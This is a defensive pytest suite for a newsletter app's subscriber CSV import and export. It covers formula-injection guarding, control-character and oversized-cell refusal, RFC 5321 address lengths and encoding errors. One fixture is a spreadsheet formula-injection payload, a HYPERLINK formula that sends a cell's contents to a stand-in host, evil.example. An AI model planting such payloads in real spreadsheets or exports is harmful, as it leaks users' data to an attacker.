"""Hostile and mis-encoded CSV files, and addresses past RFC 5321's lengths: no cell (headers
included) reaches a spreadsheet as a formula, control characters and cells longer than their
column takes are refused by line, and a file in the wrong encoding gets a message naming the
encoding."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from digest.errors import InputError
from digest.store.db import unit_of_work
from digest.store.models import Subscriber
from digest.subscribers.csv_export import export_subscribers
from digest.subscribers.csv_import import FORMULA_START, MAX_CELL, import_subscribers
from digest.addresses import normalize_email
from digest.subscribers.lifecycle import refuse_control_characters
from digest.web.app import app
from tests.cli import digest
from tests.conftest import wait_for


def _import(data: bytes):
    with unit_of_work() as session:
        return import_subscribers(session, io.BytesIO(data))


def _export() -> str:
    out = io.StringIO()
    with unit_of_work() as session:
        export_subscribers(session, out)
    return out.getvalue()


def _problems(report) -> dict[int, str]:
    return {p.line: p.reason for p in report.problems}


def test_no_exported_cell_header_included_starts_a_formula(settings):
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    data = (f'email,name,"{hostile.replace(chr(34), chr(34) * 2)}",@sum(1)\r\n'
            'ana@example.org,-Ana,+1 555 0100,=1+1\r\n').encode()
    assert _import(data).created == 1
    exported = _export()
    for row in csv.reader(io.StringIO(exported)):
        for cell in row:
            assert cell[:1] not in FORMULA_START, f"{cell!r} would run in a spreadsheet"
    header = next(csv.reader(io.StringIO(exported)))
    assert "'" + hostile.lower() in header and "'@sum(1)" in header
    # The guard is undone on the way back in: the same keys, nothing changed.
    again = _import(exported.encode())
    assert (again.created, again.updated, again.skipped) == (0, 0, 0)
    assert _export() == exported


@pytest.mark.parametrize("bad", ["\x00", "\x1b[31m", "\x7f", "\x85", "\x07"])
def test_control_characters_in_names_and_attributes_are_refused_by_line(settings, bad):
    data = ("email,name,organisation\r\n"
            f"ana@example.org,Ana{bad},Forum\r\n"
            f"bek@example.org,Bek,Forum{bad}\r\n"
            "cyrus@example.org,Cyrus,\"Two\r\nlines\"\r\n").encode()
    report = _import(data)
    problems = _problems(report)
    assert sorted(problems) == [2, 3] and report.created == 1
    code = f"U+{ord(bad[0]):04X}"
    assert problems[2] == f"name contains a control character ({code})"
    assert problems[3] == f"organisation contains a control character ({code})"


def test_a_control_character_in_the_source_is_refused_by_line(settings):
    """A NUL in the `source` cell reached PostgreSQL's COPY, which refused the whole batch: the
    import failed (a 500 on the API) instead of reporting the row."""
    report = _import(b"email,source\r\nana@example.org,web\x00\r\nbek@example.org,web\r\n")
    assert _problems(report) == {2: "source contains a control character (U+0000)"} and report.created == 1


def test_a_control_character_in_a_column_name_refuses_the_file(settings):
    with pytest.raises(InputError, match=r"line 1: column name 'org\\x00' contains a control character \(U\+0000\)"):
        _import(b"email,org\x00\r\nana@example.org,Forum\r\n")


def test_the_sign_up_form_refuses_a_name_with_control_characters(client):
    answer = client.post("/subscribe", data={"email": "ana@example.org", "name": "Ana\x00\x1b"})
    assert answer.status_code == 400 and "The name contains an invisible control character (U+0000). Please remove it." in answer.text


LOCAL_64 = "x" * 64
DOMAIN_189 = ".".join(["d" * 62, "d" * 62, "d" * 59]) + ".org"  # 64 + 1 + 189 = 254 octets


@pytest.mark.parametrize("address, accepted", [
    (f"{LOCAL_64}@example.org", True),
    (f"{LOCAL_64}x@example.org", False),
    ("é" * 32 + "@example.org", True),   # 64 octets in UTF-8
    ("é" * 33 + "@example.org", False),  # 33 characters, 66 octets
    (f"{LOCAL_64}@{DOMAIN_189}", True),
    (f"{LOCAL_64}@d{DOMAIN_189}", False),
])
def test_rfc_5321_lengths_are_enforced(address, accepted):
    assert len(f"{LOCAL_64}@{DOMAIN_189}") == 254
    if accepted:
        assert normalize_email(address)
    else:
        with pytest.raises(InputError, match="longer than|too long"):
            normalize_email(address)


def test_an_import_reports_a_too_long_address_by_line(settings):
    report = _import(f"email\r\n{LOCAL_64}x@example.org\r\nok@example.org\r\n".encode())
    assert report.created == 1 and "local part is longer than 64 octets" in _problems(report)[2]


@pytest.mark.parametrize("encoding, bom", [("utf-16", "FF FE"), ("utf-16-be", None), ("utf-16-le", None)])
def test_a_utf16_file_is_refused_naming_the_encoding(worker, tmp_path, encoding, bom):
    data = "email,name\r\nana@example.org,Ana\r\n".encode(encoding)
    with pytest.raises(InputError, match="UTF-16") as refused:
        _import(data)
    assert 'save it as "CSV UTF-8"' in str(refused.value)
    path = tmp_path / "utf16.csv"
    path.write_bytes(data)
    result = digest("subscribers", "import", str(path))
    assert result.returncode == 2 and "UTF-16" in result.stderr and "Traceback" not in result.stderr


def test_a_latin1_file_names_latin1_on_each_row_it_spoils(settings):
    data = "email,name\r\nrene@example.org,René Dupont\r\nana@example.org,Ana\r\n".encode("latin-1")
    report = _import(data)
    assert report.created == 1
    reason = _problems(report)[2]
    assert reason.startswith("is not valid UTF-8") and "byte 0xE9" in reason and "Latin-1" in reason
    with pytest.raises(InputError, match="line 1: .*not valid UTF-8.*Latin-1"):
        _import("email,société\r\nana@example.org,x\r\n".encode("latin-1"))


def test_every_byte_that_is_not_utf8_is_named_and_every_control_character_refused(settings):
    """Each stray byte 0x80..0xFF in a name is named in its row's reason; a name holding any
    control character but tab and line breaks (category Cc: C0, DEL, C1) is refused, naming it,
    and no other character is."""
    stray = b"".join(f"x{n}@example.org,Ana ".encode() + bytes([n]) + b"\r\n" for n in range(0x80, 0x100))
    report = _import(b"email,name\r\n" + stray)
    reasons = _problems(report)
    assert report.created == 0 and len(reasons) == 0x80
    assert all(f"byte 0x{n:02X}" in reasons[n - 0x80 + 2] for n in range(0x80, 0x100))

    control = [c for c in map(chr, range(0x110000)) if unicodedata.category(c) == "Cc" and c not in "\t\n\r"]
    assert len(control) == 62
    for char in control:
        with pytest.raises(InputError, match=f"U\\+{ord(char):04X}"):
            refuse_control_characters(f"Ana{char}Lee", "name")
    refused = [c for c in map(chr, range(0x110000)) if not 0xD800 <= ord(c) <= 0xDFFF and c not in control
               and _refused(c)]
    assert refused == []


def _refused(char: str) -> bool:
    try:
        refuse_control_characters(char, "name")
    except InputError:
        return True
    return False


HUGE = 200_000  # characters in one cell: more than Python's csv module reads in a field (131072)


def _with_a_huge_cell(cell: str) -> bytes:
    return ("email,name,organisation\r\n"
            "ana@example.org,Ana,Forum\r\n"
            f"bek@example.org,Bek,{cell}\r\n"
            "cyrus@example.org,Cyrus,Institute\r\n").encode()


def _imported() -> list[str]:
    with unit_of_work() as session:
        return sorted(session.scalars(select(Subscriber.email)))


@pytest.mark.parametrize("cell", ["x" * HUGE, f'"{"x" * HUGE}"', f'"{"x" * (HUGE // 2)}\r\n{"x" * (HUGE // 2)}"'],
                         ids=["plain", "quoted", "on two lines"])
def test_a_cell_too_large_for_the_csv_reader_is_refused_by_its_line(settings, cell):
    report = _import(_with_a_huge_cell(cell))
    assert (report.rows, report.created, report.skipped) == (3, 2, 1)
    [problem] = report.problems
    assert problem.line == 3 and problem.reason.startswith("has a cell longer than"), problem
    assert len(problem.reason) < 200, "the message does not quote the cell"
    assert _imported() == ["ana@example.org", "cyrus@example.org"]


def test_the_api_refuses_a_200kb_cell_by_its_line(worker):
    from digest.accounts import add_editor, issue_api_token

    with unit_of_work() as session:
        add_editor(session, "ed@example.org", "a long enough password")
        token = issue_api_token(session, "ed@example.org")
    with TestClient(app) as api:
        answer = api.post("/api/subscribers/import", content=_with_a_huge_cell("x" * HUGE),
                          headers={"Authorization": f"Bearer {token}", "Content-Type": "text/csv"})
        assert answer.status_code == 202, answer.text
        report = wait_for(lambda: (r := api.get(answer.json()["status_url"], headers={
            "Authorization": f"Bearer {token}"}).json())["finished"] and r, what="the import to finish")
    assert (report["created"], report["skipped"]) == (2, 1)
    assert report["problems"][0]["line"] == 3 and "longer than" in report["problems"][0]["reason"]
    assert _imported() == ["ana@example.org", "cyrus@example.org"]


def test_a_column_name_too_large_for_the_csv_reader_refuses_the_file(worker, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_bytes(f"email,{'x' * HUGE}\r\nana@example.org,Forum\r\n".encode())
    result = digest("subscribers", "import", str(path))
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert "line 1: a column name is longer than 131072 characters" in result.stderr
    assert _imported() == []


def test_the_cli_refuses_a_200kb_cell_by_its_line(worker, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_bytes(_with_a_huge_cell("x" * HUGE))
    result = digest("subscribers", "import", str(path))
    # As for every other bad row: reported by its line, and the import goes on (exit 1: a bad row).
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert "line 3: has a cell longer than" in result.stdout
    assert "3 rows: 2 created, 0 updated, 0 unchanged, 1 skipped" in result.stdout
    assert _imported() == ["ana@example.org", "cyrus@example.org"]


@pytest.mark.parametrize("column, cell, reason", [
    ("email", "x" * 400 + "@example.org", "email is longer than 320 characters"),
    ("sections", "Field Reports;" * 800, f"sections is longer than {MAX_CELL} characters"),
    ("confirmed_at", "2025-01-01" + " " * 200, "confirmed_at is longer than 100 characters"),
    ("name", "Ana " * 3000, f"name is longer than {MAX_CELL} characters"),
    ("organisation", "x" * (MAX_CELL + 1), f"organisation is longer than {MAX_CELL} characters"),
])
def test_a_cell_longer_than_its_column_takes_is_refused_by_its_line_without_quoting_it(settings, column, cell,
                                                                                          reason):
    row = {"email": "bek@example.org", "sections": "", "confirmed_at": "", "name": "Bek", "organisation": ""}
    row[column] = cell
    data = ("email,sections,confirmed_at,name,organisation\r\nana@example.org,,,Ana,Forum\r\n"
            + ",".join(f'"{value}"' for value in row.values()) + "\r\n").encode()
    report = _import(data)
    assert (report.created, [(p.line, p.reason) for p in report.problems]) == (1, [(3, reason)])
